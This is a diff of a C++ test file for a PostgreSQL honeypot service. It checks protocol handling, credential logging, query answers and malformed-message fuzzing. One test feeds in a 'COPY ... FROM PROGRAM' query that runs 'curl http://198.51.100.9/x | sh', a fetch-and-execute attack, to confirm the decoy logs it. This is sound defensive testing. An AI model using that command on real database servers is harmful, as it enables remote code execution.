@@ -1,7 +1,9 @@
 // The postgres service byte for byte through FakeConnection: the startup packet (SSL/GSSENC/cancel,
-// protocol versions), each auth mode with the credential it logs, the queries a client and an attacker
-// send, the extended protocol, and hostile messages (huge/zero/truncated lengths, garbage, 10,000
-// startup parameters).
+// protocol versions), each auth mode with the credential it logs, the queries a client and an
+// attacker send, the extended protocol, and hostile messages (huge/zero/truncated lengths, garbage,
+// 10,000 startup parameters).
+#include "decnet/services/db/postgres.h"
+
 #include <gtest/gtest.h>
 #include <sodium.h>
 
@@ -9,7 +11,6 @@
 #include <random>
 
 #include "decnet/decoy/testing.h"
-#include "decnet/services/db/postgres.h"
 #include "postgres_fuzz_entry.h"
 
 namespace decnet::services::db {
@@ -30,13 +31,16 @@ decoy::PersonaInputs Inputs(std::string auth, std::string users = "postgres:pw,a
 }
 
 std::string Be32(uint32_t v) {
-  return {static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8), static_cast<char>(v)};
+  return {static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8),
+          static_cast<char>(v)};
 }
 uint32_t Get32(std::string_view s, size_t at) {
-  return (uint32_t(uint8_t(s[at])) << 24) | (uint32_t(uint8_t(s[at + 1])) << 16) | (uint32_t(uint8_t(s[at + 2])) << 8) |
-         uint8_t(s[at + 3]);
+  return (uint32_t(uint8_t(s[at])) << 24) | (uint32_t(uint8_t(s[at + 1])) << 16) |
+         (uint32_t(uint8_t(s[at + 2])) << 8) | uint8_t(s[at + 3]);
 }
-std::string Packet(uint32_t code, std::string_view params) { return Be32(8 + params.size()) + Be32(code) + std::string(params); }
+std::string Packet(uint32_t code, std::string_view params) {
+  return Be32(8 + params.size()) + Be32(code) + std::string(params);
+}
 std::string Startup(std::string_view user, std::string_view extra = {}) {
   std::string p = "user";
   p.push_back('\0');
@@ -48,7 +52,9 @@ std::string Startup(std::string_view user, std::string_view extra = {}) {
   p.push_back('\0');
   return Packet(196608, p);
 }
-std::string Msg(char type, std::string_view body) { return std::string(1, type) + Be32(body.size() + 4) + std::string(body); }
+std::string Msg(char type, std::string_view body) {
+  return std::string(1, type) + Be32(body.size() + 4) + std::string(body);
+}
 std::string Z(std::string_view s) { return std::string(s) + std::string(1, '\0'); }
 
 struct M {
@@ -97,16 +103,16 @@ std::vector<std::string> Columns(const std::vector<M>& v, size_t row = 0) {
 }
 std::string B64(std::string_view bin) {
   std::string out(sodium_base64_ENCODED_LEN(bin.size(), sodium_base64_VARIANT_ORIGINAL), '\0');
-  sodium_bin2base64(out.data(), out.size(), reinterpret_cast<const unsigned char*>(bin.data()), bin.size(),
-                    sodium_base64_VARIANT_ORIGINAL);
+  sodium_bin2base64(out.data(), out.size(), reinterpret_cast<const unsigned char*>(bin.data()),
+                    bin.size(), sodium_base64_VARIANT_ORIGINAL);
   out.resize(std::strlen(out.c_str()));
   return out;
 }
 std::string UnB64(std::string_view t) {
   std::string out(t.size(), '\0');
   size_t len = 0;
-  sodium_base642bin(reinterpret_cast<unsigned char*>(out.data()), out.size(), t.data(), t.size(), nullptr, &len, nullptr,
-                    sodium_base64_VARIANT_ORIGINAL);
+  sodium_base642bin(reinterpret_cast<unsigned char*>(out.data()), out.size(), t.data(), t.size(),
+                    nullptr, &len, nullptr, sodium_base64_VARIANT_ORIGINAL);
   out.resize(len);
   return out;
 }
@@ -140,9 +146,11 @@ struct Client {
 TEST(PostgresMd5, KnownVectorsAndResponse) {
   EXPECT_EQ(PgMd5Hex(""), "d41d8cd98f00b204e9800998ecf8427e");
   EXPECT_EQ(PgMd5Hex("abc"), "900150983cd24fb0d6963f7d28e17f72");
-  EXPECT_EQ(PgMd5Hex("The quick brown fox jumps over the lazy dog"), "9e107d9d372bb6826bd81d3542a419d6");
+  EXPECT_EQ(PgMd5Hex("The quick brown fox jumps over the lazy dog"),
+            "9e107d9d372bb6826bd81d3542a419d6");
   EXPECT_EQ(PgMd5Hex(std::string(64, 'a')), "014842d480b571495a4a0363793f7367");
-  // pg_authid's md5 form of ("postgres", "postgres"), as `SELECT 'md5' || md5('postgrespostgres')` gives.
+  // pg_authid's md5 form of ("postgres", "postgres"), as `SELECT 'md5' || md5('postgrespostgres')`
+  // gives.
   EXPECT_EQ("md5" + PgMd5Hex("postgrespostgres"), "md53175bce1d3201d16594cebf9d7eb3f9d");
 }
 
@@ -157,7 +165,11 @@ TEST(PostgresStartup, SslAndGssRefusedThenCleartextLogin) {
   EXPECT_EQ(Types(ok), "RSSSSSSSSSSSSSKZ");
   EXPECT_EQ(Get32(ok[0].body, 0), 0u);
   bool version = false;
-  for (const auto& m : ok) version |= m.body == std::string("server_version\0" "15.10 (Debian 15.10-0+deb12u1)\0", 46);
+  for (const auto& m : ok)
+    version |= m.body == std::string(
+                             "server_version\0"
+                             "15.10 (Debian 15.10-0+deb12u1)\0",
+                             46);
   EXPECT_TRUE(version);
   EXPECT_EQ(ok.back().body, "I");
   const auto st = c.decky.Events("startup");
@@ -204,13 +216,15 @@ TEST(PostgresStartup, OtherProtocolVersionsCancelAndMissingUser) {
     auto e = c.SendM(Packet(0x00020000, std::string("user\0x\0\0", 8)));
     ASSERT_EQ(Types(e), "E");
     EXPECT_EQ(Field(e[0].body, 'C'), "0A000");
-    EXPECT_EQ(Field(e[0].body, 'M'), "unsupported frontend protocol 2.0: server supports 3.0 to 3.0");
+    EXPECT_EQ(Field(e[0].body, 'M'),
+              "unsupported frontend protocol 2.0: server supports 3.0 to 3.0");
     EXPECT_TRUE(c.conn.closed);
   }
   {
     Client c(Inputs("", "", "12.22"));
     auto e = c.SendM(Packet(0x00040000, std::string("\0", 1)));
-    EXPECT_EQ(Field(e[0].body, 'M'), "unsupported frontend protocol 4.0: server supports 2.0 to 3.0");
+    EXPECT_EQ(Field(e[0].body, 'M'),
+              "unsupported frontend protocol 4.0: server supports 2.0 to 3.0");
   }
   {
     Client c(Inputs(""));
@@ -226,7 +240,9 @@ TEST(PostgresStartup, OtherProtocolVersionsCancelAndMissingUser) {
   }
   {  // 3.2 with a _pq_ option: NegotiateProtocolVersion, then the login continues
     Client c(Inputs("cleartext"));
-    auto r = c.SendM(Packet(0x00030002, std::string("user\0x\0_pq_.foo\0" "1\0\0", 19)));
+    auto r = c.SendM(Packet(0x00030002, std::string("user\0x\0_pq_.foo\0"
+                                                    "1\0\0",
+                                                    19)));
     ASSERT_EQ(Types(r), "vR");
     EXPECT_EQ(Get32(r[0].body, 0), 0u);
     EXPECT_EQ(Get32(r[0].body, 4), 1u);
@@ -264,7 +280,8 @@ TEST(PostgresAuth, Md5CapturedInHashcatFormAndVerified) {
 }
 
 // A SCRAM-SHA-256 client as libpq runs it; returns the backend's answer to client-final.
-std::vector<M> Scram(Client& c, std::string_view password, std::string* auth_message, std::string* salt) {
+std::vector<M> Scram(Client& c, std::string_view password, std::string* auth_message,
+                     std::string* salt) {
   auto r = c.SendM(Startup("alice"));
   EXPECT_EQ(Get32(r[0].body, 0), 10u);
   EXPECT_EQ(r[0].body.substr(4), std::string("SCRAM-SHA-256\0\0", 15));
@@ -329,11 +346,13 @@ TEST(PostgresQuery, VersionShowUserAndTables) {
   c.Login();
   auto v = c.Query("SELECT version();");
   EXPECT_EQ(Types(v), "TDCZ");
-  EXPECT_EQ(Columns(v)[0], "PostgreSQL 15.10 (Debian 15.10-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc "
-                           "(Debian 12.2.0-14) 12.2.0, 64-bit");
+  EXPECT_EQ(Columns(v)[0],
+            "PostgreSQL 15.10 (Debian 15.10-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc "
+            "(Debian 12.2.0-14) 12.2.0, 64-bit");
   EXPECT_EQ(v[2].body, Z("SELECT 1"));
   EXPECT_EQ(Columns(c.Query("SHOW server_version"))[0], "15.10 (Debian 15.10-0+deb12u1)");
   EXPECT_EQ(Columns(c.Query("select current_user"))[0], "postgres");
+  EXPECT_EQ(Columns(c.Query("SHOW server_version_num"))[0], "150010");
   auto users = c.Query("SELECT * FROM public.users");
   EXPECT_EQ(Types(users), "TDDDCZ");
   EXPECT_EQ(Columns(users, 0)[1], "admin");
@@ -347,7 +366,7 @@ TEST(PostgresQuery, VersionShowUserAndTables) {
   EXPECT_EQ(Field(bad[0].body, 'M'), "syntax error at or near \"SELEKT\"");
   EXPECT_EQ(Field(bad[0].body, 'S'), "ERROR");
   EXPECT_EQ(Types(c.Query("")), "IZ");
-  EXPECT_EQ(c.decky.Events("query").size(), 7u);  // every statement, the empty one too
+  EXPECT_EQ(c.decky.Events("query").size(), 8u);  // every statement, the empty one too
 }
 
 TEST(PostgresQuery, PsqlListDatabasesAndTables) {
@@ -356,8 +375,10 @@ TEST(PostgresQuery, PsqlListDatabasesAndTables) {
   // psql 15's \l
   auto l = c.Query(
       "SELECT\n  d.datname as \"Name\",\n  pg_catalog.pg_get_userbyid(d.datdba) as \"Owner\",\n"
-      "  pg_catalog.pg_encoding_to_char(d.encoding) as \"Encoding\",\n  d.datcollate as \"Collate\",\n"
-      "  d.datctype as \"Ctype\",\n  pg_catalog.array_to_string(d.datacl, E'\\n') AS \"Access privileges\"\n"
+      "  pg_catalog.pg_encoding_to_char(d.encoding) as \"Encoding\",\n  d.datcollate as "
+      "\"Collate\",\n"
+      "  d.datctype as \"Ctype\",\n  pg_catalog.array_to_string(d.datacl, E'\\n') AS \"Access "
+      "privileges\"\n"
       "FROM pg_catalog.pg_database d\nORDER BY 1;");
   ASSERT_GE(l.size(), 6u);
   EXPECT_EQ(l[0].type, 'T');
@@ -369,17 +390,21 @@ TEST(PostgresQuery, PsqlListDatabasesAndTables) {
   }
   EXPECT_TRUE(template0);
   auto dt = c.Query(
-      "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' END as "
-      "\"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n     LEFT "
-      "JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relkind IN ('r','p','')\nORDER BY 1,2;");
+      "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN "
+      "'table' END as "
+      "\"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class "
+      "c\n     LEFT "
+      "JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relkind IN "
+      "('r','p','')\nORDER BY 1,2;");
   EXPECT_EQ(Columns(dt, 0), (std::vector<std::string>{"public", "users", "table", "postgres"}));
 }
 
 TEST(PostgresQuery, CopyFromProgramAndDdlLogged) {
   Client c(Inputs("cleartext"));
   c.Login();
-  auto r = c.Query("DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM "
-                   "PROGRAM 'id; curl http://198.51.100.9/x | sh'; SELECT * FROM cmd_exec;");
+  auto r = c.Query(
+      "DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM "
+      "PROGRAM 'id; curl http://198.51.100.9/x | sh'; SELECT * FROM cmd_exec;");
   EXPECT_EQ(Types(r), "CCCTCZ");
   EXPECT_EQ(r[0].body, Z("DROP TABLE"));
   EXPECT_EQ(r[1].body, Z("CREATE TABLE"));
@@ -405,7 +430,8 @@ TEST(PostgresQuery, ExtendedProtocolAnswered) {
                   Msg('E', Z("") + Be32(0)) + Msg('S', "");
   EXPECT_EQ(Types(c.SendM(x)), "12TDCZ");
   // An error skips to Sync, which answers ReadyForQuery.
-  auto e = c.SendM(Msg('B', Z("") + Z("nosuch") + std::string(6, '\0')) + Msg('E', Z("") + Be32(0)) + Msg('S', ""));
+  auto e = c.SendM(Msg('B', Z("") + Z("nosuch") + std::string(6, '\0')) +
+                   Msg('E', Z("") + Be32(0)) + Msg('S', ""));
   EXPECT_EQ(Types(e), "EZ");
   EXPECT_EQ(Field(e[0].body, 'C'), "26000");
   c.Send(Msg('X', ""));
@@ -491,13 +517,16 @@ TEST(PostgresHostile, FuzzEntryOnRandomAndSeededInput) {
     fuzz::PostgresBytes(reinterpret_cast<const uint8_t*>(junk.data()), junk.size());
   }
   const std::string seeds[] = {
-      Packet(80877103, "") + Startup("postgres") + Msg('p', Z("pw")) + Msg('Q', Z("SELECT * FROM users; SHOW x")),
-      Msg('Q', Z("COPY a FROM PROGRAM 'id'")) + Msg('P', Z("s") + Z("SELECT 1")) + Msg('B', Z("") + Z("s")) +
-          Msg('D', "S" + Z("s")) + Msg('E', Z("")) + Msg('S', ""),
-      Startup("alice") + Msg('p', Z("SCRAM-SHA-256") + Be32(9) + "n,,n=,r=x") + Msg('p', "c=biws,r=x,p=AAAA"),
+      Packet(80877103, "") + Startup("postgres") + Msg('p', Z("pw")) +
+          Msg('Q', Z("SELECT * FROM users; SHOW x")),
+      Msg('Q', Z("COPY a FROM PROGRAM 'id'")) + Msg('P', Z("s") + Z("SELECT 1")) +
+          Msg('B', Z("") + Z("s")) + Msg('D', "S" + Z("s")) + Msg('E', Z("")) + Msg('S', ""),
+      Startup("alice") + Msg('p', Z("SCRAM-SHA-256") + Be32(9) + "n,,n=,r=x") +
+          Msg('p', "c=biws,r=x,p=AAAA"),
       std::string("Q") + Be32(0x7fffffff),
   };
-  for (const auto& s : seeds) fuzz::PostgresBytes(reinterpret_cast<const uint8_t*>(s.data()), s.size());
+  for (const auto& s : seeds)
+    fuzz::PostgresBytes(reinterpret_cast<const uint8_t*>(s.data()), s.size());
 }
 
 }  // namespace
